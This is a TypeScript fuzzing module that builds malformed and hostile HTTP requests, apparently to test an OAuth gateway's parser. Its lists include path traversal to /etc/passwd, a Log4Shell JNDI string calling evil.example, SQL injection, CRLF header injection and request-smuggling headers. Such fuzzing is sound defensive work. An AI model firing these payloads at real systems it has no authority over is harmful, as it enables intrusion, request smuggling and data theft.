// Attacks on HTTP itself: request lines, header fields, lengths, targets, bodies, and good requests with something changed.
import type { Dice } from './dice.ts';
import { type Bytes, type HostileRequest, plain } from './wire.ts';

const METHODS = ['GET', 'POST', 'HEAD', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'PROPFIND', 'M-SEARCH', 'PURGE'];
const NO_METHODS = ['get', 'BREW', '', 'G\0T', 'GET\t', 'CONNECT', 'PRI', '\x16\x03\x01', 'É', 'GET GET'];
const VERSIONS = ['HTTP/1.1', 'HTTP/1.0', 'HTTP/0.9', 'HTTP/2.0', 'HTTP/9.9', 'http/1.1', 'HTTP/1.', 'HTCPCP/1.0', ''];
const LINE_ENDS = ['\r\n', '\n', '\r', '\r\r\n', '\n\r', '\0\r\n', '\x0b', ' \r\n'];

const TARGETS = [
  '*',
  '/',
  '//',
  '///oauth2/token',
  '/oauth2/token/',
  '/oauth2//token',
  '/OAUTH2/TOKEN',
  '/oauth2/%74oken',
  '/oauth2/token%00',
  '/oauth2/token?grant_type=client_credentials',
  '/oauth2/token;a=b',
  '/oauth2/..%2foauth2/token',
  '/oauth2\\token',
  '/assets/../../package.json',
  '/assets/%2e%2e/%2e%2e/package.json',
  '/assets/..%5c..%5cpackage.json',
  '/docs/assets/%00',
  '/docs/assets/../../../../etc/passwd',
  '/gate/envoy/',
  '/gate/envoy/management//api/v1/../v1/me?x=%zz',
  '/gate?api=%ff&scope=%00',
  '/gate?api=&scope=',
  '/gate?api=management&api=management',
  '/api/v1/clients/%ed%a0%80',
  '/api/v1/clients?cursor=%00&limit=1e9&q=%ff',
  '/clients?cursor=-1&sort=__proto__&q=%F0%9F%92%A9',
  '/clients/%c0%ae%c0%ae%c0%af',
  '/audit?from=0000-99-99&to=NaN&action=%27%20OR%201=1--',
  '/login?next=//evil.example/&next=javascript:alert(1)',
  '/login?next=%0d%0aSet-Cookie:a=b',
  '/setup?token=' + 'a'.repeat(3_000),
  'http://evil.example/oauth2/token',
  'https://user:password@evil.example:99999/',
  'http://[::1/',
  'http:///x',
  'ftp://a/b',
  'evil.example:443',
  'javascript:alert(1)',
  'oauth2/token',
  '/%',
  '/%zz',
  '/%c3',
  '/\xff\xfe',
  '/\t',
  '/a b',
  '/#fragment',
  '/?' + 'a=1&'.repeat(2_000),
  '/' + 'a/'.repeat(4_000),
  '/' + '%25'.repeat(3_000),
  '/' + 'a'.repeat(20_000),
];

const FIELDS = [
  'Host: evil.example',
  'Host:',
  'Host: a b',
  'Host: [::1',
  'Host: a@b',
  'Host: a/b',
  'host: a\r\nHOST: b',
  'Content-Length: -1',
  'Content-Length: 0x10',
  'Content-Length: +3',
  'Content-Length: 3, 3',
  'Content-Length: 99999999999999999999',
  'Content-Length: 3\r\nContent-Length: 4',
  'Content-Length: 3\r\nContent-Length: 3',
  'Content-Length: 5\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding: \x0bchunked',
  'transfer-encoding: CHUNKED',
  'Transfer_Encoding: chunked',
  'X: a\r\n folded',
  'X: a\0b',
  'X: \x7f',
  'X\x00: b',
  ': empty',
  'no colon at all',
  'X : blank',
  'É: x',
  'Expect: 100-continue',
  'Expect: 200-ok',
  'Upgrade: websocket\r\nConnection: Upgrade',
  'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA',
  'Connection: Content-Length',
  'Connection: close, keep-alive, X',
  'TE: trailers, deflate;q=0.5',
  'Trailer: Content-Length',
  'Content-Type: application/json\r\nContent-Type: text/html',
  'Content-Type: application/x-www-form-urlencoded; charset=utf-7',
  'Content-Type: multipart/form-data; boundary=' + 'x'.repeat(500),
  'Content-Type: \xff/\xff',
  'Content-Encoding: gzip',
  'Content-Encoding: br, gzip, x',
  'Authorization: Basic',
  'Authorization: Basic ====',
  'Authorization: Basic ' + 'QUFB'.repeat(2_000),
  'Authorization: Basic AAAA',
  'Authorization: Bearer ' + 'a.'.repeat(3_000),
  'Authorization: Bearer eyJhbGciOiJub25lIn0.e30.',
  'Authorization: Bearer a\r\nAuthorization: Basic b',
  'Authorization: DPoP a',
  'Cookie: postern_session=' + 'a'.repeat(43),
  'Cookie: ' + 'postern_session=a; '.repeat(400),
  'Cookie: =; ;;; a="b;c"; \x80=\xff',
  'X-Forwarded-For: ' + '10.0.0.1, '.repeat(800) + 'x',
  'X-Forwarded-For: ::ffff:1.2.3.4, unknown, [::1]:99, 999.1.1.1, \xff',
  'X-Forwarded-For: 127.0.0.1',
  'X-Forwarded-For:',
  'Forwarded: for="[::1]";by=_x',
  'X-Original-Method: GET\r\nX-Original-URI: /%00',
  'X-Original-Method: GET, POST\r\nX-Original-URI: /a\r\nX-Forwarded-Method: GET\r\nX-Forwarded-Uri: /b',
  'X-Postern-Scope: " \\ ',
  'If-Match: ' + '"a",'.repeat(2_000),
  'If-None-Match: W/"\xff", *',
  'Range: bytes=0-,-1,5-2',
  'Accept: ' + 'a/b;q=0.1,'.repeat(900),
  'Accept-Language: ' + '-'.repeat(4_000),
  'User-Agent: ' + '\x80'.repeat(4_000),
  'User-Agent: ${jndi:ldap://evil.example/a}',
  'Origin: null',
  'Origin: http://evil.example',
  'Sec-Fetch-Site: cross-site',
  'X: ' + 'a'.repeat(17_000),
  'a:b\r\n'.repeat(3_000) + 'a: b',
];

/** Good requests of every port, to be spoiled. */
export interface GoodRequests {
  readonly requests: readonly string[];
}

type Attack = (dice: Dice, good: GoodRequests) => Omit<HostileRequest, 'what'>;

const attacks: Readonly<Record<string, Attack>> = {
  'request line': (dice) =>
    one(
      `${pickMethod(dice)} ${dice.pick(TARGETS)} ${dice.pick(VERSIONS)}${dice.pick(LINE_ENDS)}Host: a\r\nConnection: close\r\n\r\n`,
    ),
  target: (dice) => one(plain({ method: dice.pick(METHODS), target: dice.pick(TARGETS) })),
  'header field': (dice, { requests }) => one(insertFields(dice.pick(requests), dice)),
  'header field on any target': (dice) =>
    one(plain({ method: dice.pick(METHODS), target: dice.pick(TARGETS), headers: [dice.pick(FIELDS)], body: 'a=b' })),
  'bytes changed': (dice, { requests }) => one(changeBytes(dice.pick(requests), dice)),
  'cut short': (dice, { requests }) => {
    const request = dice.pick(requests);
    return { parts: [request.slice(0, dice.below(request.length))], isBrokenOff: dice.once(2) };
  },
  pipelined: (dice, { requests }) => {
    const keepAlive = (text: string) => text.replace('Connection: close\r\n', '');
    const several = Array.from({ length: 2 + dice.below(6) }, () => keepAlive(dice.pick(requests)));
    const spoiled = dice.once(2) ? changeBytes(dice.pick(requests), dice) : Buffer.from(dice.pick(requests), 'latin1');
    return { parts: dice.once(2) ? [...several, spoiled] : [Buffer.concat([...several.map(latin1), spoiled])] };
  },
  'smuggled request': (dice, { requests }) => {
    const inner = dice.pick(requests);
    const headers = ['Content-Type: application/x-www-form-urlencoded', dice.pick(FIELDS.slice(7, 23))];
    return one(`${plain({ method: 'POST', target: '/oauth2/token', headers })}${chunk(inner, dice)}${inner}`);
  },
  chunks: (dice) => {
    const headers = ['Content-Type: application/x-www-form-urlencoded', 'Transfer-Encoding: chunked'];
    const head = plain({
      method: 'POST',
      target: dice.pick(['/oauth2/token', '/api/v1/clients', '/login', '/gate']),
      headers,
    });
    return one(head + Array.from({ length: 1 + dice.below(4) }, () => chunk('grant_type=x', dice)).join(''));
  },
  'huge body': (dice) => {
    const size = dice.pick([60_000, 300_000, 2_000_000]);
    const body = dice
      .pick(['a', '&', 'a=&', '{"a":', '[', '%00', '\xff', '"', '<a>'])
      .repeat(size / 4)
      .slice(0, size);
    return one(
      plain({
        method: 'POST',
        target: dice.pick(['/oauth2/token', '/api/v1/clients', '/login', '/oauth2/introspect']),
        headers: [`Content-Type: ${pickType(dice)}`],
        body,
      }),
    );
  },
  'odd encoding': (dice) => {
    const text = Buffer.from(
      'grant_type=client_credentials&scope=clients:read',
      dice.pick(['utf16le', 'utf8', 'latin1']),
    );
    const mark = dice.pick(['\xef\xbb\xbf', '\xff\xfe', '\xfe\xff', '\x00\x00\xfe\xff', '+/v8-', '\xed\xa0\x80']);
    return one(
      plain({
        method: 'POST',
        target: '/oauth2/token',
        headers: [`Content-Type: ${pickType(dice)}`],
        body: mark + text.toString('latin1'),
      }),
    );
  },
  noise: (dice) => {
    const bytes = Buffer.alloc(1 + dice.below(2_000));
    for (let at = 0; at < bytes.length; at += 1) bytes[at] = dice.below(256);
    return { parts: [bytes], isBrokenOff: dice.once(4) };
  },
};

const names = Object.keys(attacks);

export function attackHttp(dice: Dice, good: GoodRequests): HostileRequest {
  const name = dice.pick(names);
  const attack = attacks[name];
  if (!attack) throw new Error(`there is no attack ${name}`);
  return { what: name, ...attack(dice, good) };
}

function one(part: Bytes): Omit<HostileRequest, 'what'> {
  return { parts: [part] };
}

function latin1(text: string): Buffer {
  return Buffer.from(text, 'latin1');
}

function pickMethod(dice: Dice): string {
  return dice.once(2) ? dice.pick(METHODS) : dice.pick(NO_METHODS);
}

function pickType(dice: Dice): string {
  return dice.pick([
    'application/x-www-form-urlencoded',
    'application/json',
    'text/plain',
    'application/merge-patch+json',
  ]);
}

function insertFields(request: string, dice: Dice): string {
  const lines = request.split('\r\n');
  for (let count = 1 + dice.below(3); count > 0; count -= 1) {
    lines.splice(1 + dice.below(Math.max(1, lines.indexOf('') - 1)), 0, dice.pick(FIELDS));
  }
  return lines.join(dice.once(20) ? '\n' : '\r\n');
}

function changeBytes(request: string, dice: Dice): Buffer {
  const bytes = latin1(request);
  for (let changes = 1 + dice.below(4); changes > 0; changes -= 1) bytes[dice.below(bytes.length)] = dice.below(256);
  return bytes;
}

function chunk(text: string, dice: Dice): string {
  const size = dice.pick([
    text.length.toString(16),
    '0',
    '-1',
    'ffffffffffffffff',
    '0x5',
    'g',
    '',
    `${text.length.toString(16)};a=b`,
    `${text.length.toString(16)};${'x'.repeat(5_000)}`,
  ]);
  return `${size}\r\n${text}${dice.pick(['\r\n', '\n', '', '\0'])}${dice.once(3) ? '0\r\n\r\n' : ''}`;
}
